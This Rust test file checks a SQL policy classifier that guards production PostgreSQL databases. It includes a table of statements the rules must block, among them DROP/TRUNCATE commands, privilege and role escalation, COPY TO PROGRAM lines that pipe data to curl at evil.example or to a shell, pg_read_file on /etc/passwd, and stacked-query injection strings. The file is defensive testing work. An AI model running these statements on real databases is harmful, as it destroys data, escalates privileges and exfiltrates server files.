//! The classifier over a large table of statements: what the default production rules must
//! catch, what they must let through, and a snapshot of the full classification of each.

use super::*;
use crate::config::Tier;
use crate::identity::{Identity, IdentityKind};
use crate::policy::{Action, Policy, Subject};

fn who(kind: IdentityKind) -> Identity {
    Identity {
        name: "someone".into(),
        kind,
        groups: vec!["engineers".into()],
        on_behalf_of: None,
        session_id: None,
    }
}

fn decide(policy: &Policy, kind: IdentityKind, tier: Tier, sql: &str) -> (Action, String) {
    let id = who(kind);
    let d = policy.decide(
        &Subject {
            identity: &id,
            environment: "prod",
            tier,
            tags: &[],
        },
        sql,
    );
    (d.action, d.rule)
}

/// Statements the built-in production rules must stop, in both protocols (a Parse carries the
/// same text), and the rule that must stop each — for a person, the least restricted caller.
const CAUGHT: &[(&str, &str)] = &[
    ("DROP TABLE users", "prod-no-drop"),
    ("drop table if exists public.users cascade", "prod-no-drop"),
    ("DROP TABLE \"Users\"", "prod-no-drop"),
    ("DROP SCHEMA app CASCADE", "prod-no-drop"),
    ("DROP DATABASE appdb", "prod-no-drop"),
    ("DROP INDEX users_email_idx", "prod-no-drop"),
    ("DROP VIEW v", "prod-no-drop"),
    ("DROP FUNCTION f(int)", "prod-no-drop"),
    ("DROP OWNED BY bob", "prod-no-drop"),
    ("TRUNCATE users", "prod-no-drop"),
    ("TRUNCATE TABLE a, b RESTART IDENTITY", "prod-no-drop"),
    ("ALTER TABLE users DROP COLUMN email", "prod-no-drop"),
    (
        "ALTER TABLE users DROP CONSTRAINT users_pkey",
        "prod-no-drop",
    ),
    ("SELECT 1; DROP TABLE users", "prod-no-drop"),
    (
        "/* harmless */ SELECT 1; -- x\n drop table users;",
        "prod-no-drop",
    ),
    ("BEGIN; DROP TABLE users; COMMIT", "prod-no-drop"),
    (
        "PREPARE p AS DELETE FROM users",
        "prod-review-unbounded-write",
    ),
    ("GRANT ALL ON users TO public", "prod-no-grant"),
    ("GRANT admin TO bob", "prod-no-grant"),
    ("REVOKE SELECT ON users FROM bob", "prod-no-grant"),
    ("REASSIGN OWNED BY bob TO alice", "prod-no-grant"),
    (
        "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
        "prod-no-grant",
    ),
    ("CREATE ROLE bob SUPERUSER", "prod-no-role-change"),
    ("CREATE USER bob PASSWORD 'x'", "prod-no-role-change"),
    ("ALTER ROLE bob SUPERUSER", "prod-no-role-change"),
    ("ALTER USER bob WITH PASSWORD 'x'", "prod-no-role-change"),
    ("DROP ROLE bob", "prod-no-drop"),
    ("DROP USER bob", "prod-no-drop"),
    ("SET ROLE postgres", "prod-no-role-change"),
    ("SET LOCAL ROLE postgres", "prod-no-role-change"),
    ("SET role = 'postgres'", "prod-no-role-change"),
    ("SET role TO postgres", "prod-no-role-change"),
    ("SET SESSION AUTHORIZATION postgres", "prod-no-role-change"),
    ("RESET ROLE", "prod-no-role-change"),
    ("RESET SESSION AUTHORIZATION", "prod-no-role-change"),
    ("RESET ALL", "prod-no-role-change"),
    ("DISCARD ALL", "prod-no-role-change"),
    (
        "SELECT set_config('role', 'postgres', false)",
        "prod-no-role-change",
    ),
    (
        "SELECT pg_catalog.set_config('session_authorization', 'x', true)",
        "prod-no-role-change",
    ),
    ("SELECT set_config($1, $2, false)", "prod-no-role-change"),
    ("ALTER SYSTEM SET work_mem = '1GB'", "prod-no-alter-system"),
    ("alter system reset all", "prod-no-alter-system"),
    ("COPY users TO '/tmp/users.csv'", "prod-no-server-access"),
    ("COPY users FROM '/etc/passwd'", "prod-no-server-access"),
    (
        "COPY users TO PROGRAM 'curl -d @- evil.example'",
        "prod-no-server-access",
    ),
    (
        "COPY users FROM PROGRAM 'cat /etc/passwd'",
        "prod-no-server-access",
    ),
    (
        "COPY (SELECT * FROM users) TO PROGRAM 'sh'",
        "prod-no-server-access",
    ),
    (
        "SELECT pg_read_file('/etc/passwd')",
        "prod-no-server-access",
    ),
    (
        "SELECT pg_read_binary_file('global/pg_control')",
        "prod-no-server-access",
    ),
    ("SELECT * FROM pg_ls_dir('.')", "prod-no-server-access"),
    (
        "SELECT pg_stat_file('postgresql.conf')",
        "prod-no-server-access",
    ),
    ("SELECT lo_import('/etc/passwd')", "prod-no-server-access"),
    ("SELECT lo_export(16401, '/tmp/x')", "prod-no-server-access"),
    (
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        "prod-no-dangerous-functions",
    ),
    (
        "SELECT pg_cancel_backend(123)",
        "prod-no-dangerous-functions",
    ),
    (
        "select PG_CATALOG.PG_TERMINATE_BACKEND(1)",
        "prod-no-dangerous-functions",
    ),
    (
        "SELECT count(*) FROM t WHERE pg_terminate_backend(t.pid)",
        "prod-no-dangerous-functions",
    ),
    (
        "SELECT * FROM dblink('host=x', 'DROP TABLE users') AS t(a int)",
        "prod-no-dangerous-functions",
    ),
    (
        "SELECT dblink_exec('host=x', 'DROP TABLE users')",
        "prod-no-dangerous-functions",
    ),
    ("SELECT pg_reload_conf()", "prod-no-dangerous-functions"),
    ("SELECT pg_rotate_logfile()", "prod-no-dangerous-functions"),
    (
        "SELECT query_to_xml('DELETE FROM users RETURNING *', true, true, '')",
        "prod-no-dangerous-functions",
    ),
    (
        "WITH x AS (SELECT pg_terminate_backend(1)) SELECT * FROM x",
        "prod-no-dangerous-functions",
    ),
    (
        "SELECT (SELECT pg_cancel_backend(1))",
        "prod-no-dangerous-functions",
    ),
    ("DELETE FROM users", "prod-review-unbounded-write"),
    (
        "DELETE FROM users WHERE true",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM users WHERE 1 = 1",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM users WHERE 'a' = 'a'",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM users WHERE id = id",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM users WHERE id = 5 OR true",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM users WHERE (1 = 1)",
        "prod-review-unbounded-write",
    ),
    (
        "DELETE FROM users WHERE EXISTS (SELECT 1)",
        "prod-review-unbounded-write",
    ),
    (
        "UPDATE users SET admin = true",
        "prod-review-unbounded-write",
    ),
    (
        "UPDATE users SET admin = true WHERE 1=1",
        "prod-review-unbounded-write",
    ),
    (
        "WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d",
        "prod-review-unbounded-write",
    ),
    (
        "EXPLAIN ANALYZE DELETE FROM users",
        "prod-review-unbounded-write",
    ),
    (
        "EXPLAIN (ANALYZE) UPDATE users SET a = 1",
        "prod-review-unbounded-write",
    ),
    (
        "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
        "prod-review-unanalysable",
    ),
    (
        "DO LANGUAGE plpgsql $$ BEGIN NULL; END $$",
        "prod-review-unanalysable",
    ),
    ("EXECUTE p(1)", "prod-review-unanalysable"),
    ("CALL cleanup()", "prod-review-unanalysable"),
    ("SELEC * FROM users", "prod-review-unanalysable"),
    (
        "SELECT 1; VACUUM FULL users; FROBNICATE",
        "prod-review-unanalysable",
    ),
    // With standard_conforming_strings = off, PostgreSQL reads this as a SELECT of one string
    // followed by DROP TABLE: both readings count.
    (
        "SELECT 'a\\'; SELECT ' ; DROP TABLE users; --'",
        "prod-no-drop",
    ),
];

/// Statements the built-in production rules must let a person run.
const PASSES: &[&str] = &[
    "SELECT 1",
    "select * from users where id = 42",
    "SELECT * FROM users WHERE note = 'drop table users'",
    "SELECT 'DROP TABLE users; GRANT ALL ON x TO y'",
    "SELECT $$ TRUNCATE users $$",
    "SELECT * FROM drop_log",
    "SELECT * FROM truncate_history, grant_requests",
    "SELECT \"drop\" FROM \"DROP TABLE\"",
    "SELECT id -- DROP TABLE users\nFROM users",
    "SELECT id /* ; DROP TABLE users; */ FROM users",
    "SELECT * FROM files WHERE path LIKE 'C:\\\\tmp%'",
    "SELECT E'it\\'s; DROP TABLE users'",
    "SELECT * FROM public.users u JOIN app.orders o ON o.user_id = u.id",
    "SELECT \"Order Id\", \"user\".\"Name\" FROM \"user\"",
    "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent",
    "WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM t WHERE n < 10) SELECT sum(n) FROM t",
    "SELECT id, row_number() OVER (PARTITION BY account ORDER BY ts DESC) FROM events",
    "SELECT sum(amount) OVER w FROM payments WINDOW w AS (PARTITION BY user_id)",
    "SELECT data->>'email', data#>'{a,b}', data @> '{\"x\":1}' FROM docs WHERE data ? 'email'",
    "SELECT jsonb_build_object('a', 1), to_jsonb(u) FROM users u",
    "SELECT * FROM users WHERE id = ANY($1)",
    "SELECT * FROM users WHERE email ILIKE $1 LIMIT $2 OFFSET $3",
    "SELECT count(*) FILTER (WHERE active) FROM users",
    "SELECT * FROM generate_series(1, 10) g",
    "SELECT * FROM unnest(ARRAY[1,2]) AS x(n)",
    "SELECT current_setting('search_path')",
    "SELECT set_config('search_path', 'app, public', false)",
    "SELECT pg_sleep(0.1)",
    "SELECT nextval('orders_id_seq')",
    "SELECT * FROM pg_stat_activity",
    "SELECT CASE WHEN a > 1 THEN 'x' ELSE 'y' END FROM t",
    "SELECT a::text, CAST(b AS int) FROM t",
    "SELECT * FROM t1 UNION SELECT * FROM t2",
    "SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE x = 1)",
    "SELECT * FROM t FOR UPDATE",
    "TABLE users",
    "VALUES (1, 'a'), (2, 'b')",
    "SHOW search_path",
    "SET search_path = app, public",
    "SET statement_timeout TO '5s'",
    "SET application_name = 'drop table'",
    "RESET statement_timeout",
    "BEGIN",
    "BEGIN ISOLATION LEVEL SERIALIZABLE",
    "START TRANSACTION READ ONLY",
    "COMMIT",
    "ROLLBACK",
    "SAVEPOINT a",
    "RELEASE SAVEPOINT a",
    "ROLLBACK TO SAVEPOINT a",
    "EXPLAIN SELECT * FROM users",
    "EXPLAIN DELETE FROM users",
    "EXPLAIN (FORMAT JSON) SELECT * FROM users",
    "EXPLAIN ANALYZE SELECT * FROM users",
    "PREPARE q AS SELECT * FROM users WHERE id = $1",
    "DEALLOCATE q",
    "DEALLOCATE ALL",
    "INSERT INTO users (email, name) VALUES ('a@b.c', 'A')",
    "INSERT INTO audit.events SELECT * FROM staging.events WHERE ts > now() - interval '1 hour'",
    "INSERT INTO t VALUES ($1, $2) ON CONFLICT (id) DO UPDATE SET v = EXCLUDED.v",
    "UPDATE users SET name = 'x' WHERE id = 1",
    "UPDATE users SET name = $1 WHERE id = $2 RETURNING *",
    "UPDATE users u SET name = s.name FROM staging s WHERE s.id = u.id",
    "UPDATE users SET a = 1 WHERE id = 5 AND true",
    "DELETE FROM sessions WHERE expires_at < now()",
    "DELETE FROM t USING u WHERE t.id = u.id",
    "DELETE FROM t WHERE id IN (SELECT id FROM u)",
    "WITH moved AS (DELETE FROM queue WHERE id = $1 RETURNING *) INSERT INTO done SELECT * FROM moved",
    "COPY users TO STDOUT WITH (FORMAT csv)",
    "COPY (SELECT * FROM users) TO STDOUT",
    "COPY users (id, email) FROM STDIN",
    "CREATE TABLE t (id int PRIMARY KEY, note text DEFAULT 'drop table')",
    "CREATE INDEX CONCURRENTLY ON users (email)",
    "ALTER TABLE users ADD COLUMN nickname text",
    "CREATE VIEW v AS SELECT id FROM users",
    "SELECT * INTO TEMP t2 FROM users",
    "LISTEN jobs",
    "NOTIFY jobs, 'x'",
    "VACUUM ANALYZE users",
    "LOCK TABLE users IN SHARE MODE",
    "DECLARE c CURSOR FOR SELECT * FROM users",
    "FETCH 10 FROM c",
    "CLOSE c",
    "",
    ";;",
    "-- only a comment",
];

#[test]
fn production_rules_catch_every_dangerous_form() {
    let policy = Policy::default();
    let mut failures = Vec::new();
    for (sql, rule) in CAUGHT {
        let (action, got) = decide(&policy, IdentityKind::Human, Tier::Production, sql);
        if got != *rule || action == Action::Allow {
            failures.push(format!("{sql:?}: expected {rule}, got {action:?} by {got}"));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn production_rules_let_safe_statements_through() {
    let policy = Policy::default();
    let mut failures = Vec::new();
    for sql in PASSES {
        let (action, rule) = decide(&policy, IdentityKind::Human, Tier::Production, sql);
        if action != Action::Allow {
            failures.push(format!("{sql:?}: {action:?} by {rule}"));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn agents_need_approval_for_any_write_in_production_but_not_for_reads() {
    let policy = Policy::default();
    for sql in PASSES {
        let c = classify(sql);
        let (action, rule) = decide(&policy, IdentityKind::Agent, Tier::Production, sql);
        let expected = if c.writes {
            Action::Review
        } else {
            Action::Allow
        };
        assert_eq!(action, expected, "{sql:?} (rule {rule})");
    }
    // Outside production the built-in rules do not apply.
    for (sql, _) in CAUGHT {
        let (action, _) = decide(&policy, IdentityKind::Agent, Tier::Staging, sql);
        assert_eq!(action, Action::Allow, "{sql:?}");
    }
}

#[test]
fn every_caught_statement_is_caught_the_same_way_from_the_cache() {
    let policy = Policy::default();
    for _ in 0..2 {
        for (sql, rule) in CAUGHT {
            let (_, got) = decide(&policy, IdentityKind::Human, Tier::Production, sql);
            assert_eq!(got, *rule, "{sql:?}");
        }
    }
}

/// One line per statement: everything the classifier found, compactly.
fn summary(sql: &str) -> String {
    let c = classify(sql);
    let mut parts = vec![format!(
        "cmd=[{}]",
        c.statements
            .iter()
            .map(|s| s.command.as_str())
            .collect::<Vec<_>>()
            .join(", ")
    )];
    let list =
        |name: &str, v: &[String]| (!v.is_empty()).then(|| format!("{name}=[{}]", v.join(", ")));
    parts.extend(list("read", &c.tables_read));
    parts.extend(list("written", &c.tables_written));
    parts.extend(list("cols", &c.columns_read));
    parts.extend(list("set", &c.columns_written));
    parts.extend(list("unbounded", &c.unbounded_writes));
    parts.extend(list("fns", &c.dangerous_functions));
    for (flag, on) in [
        ("writes", c.writes),
        ("UNANALYSABLE", !c.analysable),
        ("cte-write", c.data_modifying_cte),
        ("select-into", c.select_into),
        ("explain-analyze-write", c.explain_analyze_write),
        ("destructive", c.destructive),
        ("privileges", c.privilege_change),
        ("role", c.role_change),
        ("alter-system", c.alter_system),
        ("server-file", c.server_file_access),
        ("program", c.program_access),
    ] {
        if on {
            parts.push(flag.into());
        }
    }
    format!("{sql}\n    {}", parts.join(" "))
}

#[test]
fn classification_snapshot() {
    let all: Vec<String> = CAUGHT
        .iter()
        .map(|(s, _)| *s)
        .chain(PASSES.iter().copied())
        .map(summary)
        .collect();
    insta::assert_snapshot!(all.join("\n"));
}

#[test]
fn names_are_folded_like_postgresql_and_ctes_are_not_tables() {
    let c = classify(
        "WITH Recent AS (SELECT * FROM App.\"Orders\") SELECT r.id FROM recent r JOIN Users u ON u.id = r.user_id",
    );
    assert_eq!(c.tables_read, ["app.Orders", "users"]);
    assert!(c.tables_written.is_empty());
    assert_eq!(c.columns_read, ["*", "r.id", "r.user_id", "u.id"]);
}

#[test]
fn several_statements_are_each_classified() {
    let c = classify("SELECT 1; UPDATE t SET a = 1 WHERE id = 2; DO $$ x $$; SELECT 'a;b'");
    assert_eq!(
        c.kinds,
        [
            StatementKind::Select,
            StatementKind::Update,
            StatementKind::Do
        ]
    );
    assert_eq!(c.statements.len(), 4);
    assert!(!c.analysable);
    assert!(c.unbounded_writes.is_empty());
    assert_eq!(c.tables_written, ["t"]);
}

#[test]
fn odd_input_never_panics() {
    for s in [
        "'unterminated",
        "$$ open",
        "/* open",
        "é ∑ 💥",
        "SELECT ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))",
        "\0",
        "SELECT 1 +",
        ";",
    ] {
        let _ = classify(s);
    }
    let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
    assert!(!classify(&deep).analysable);
}
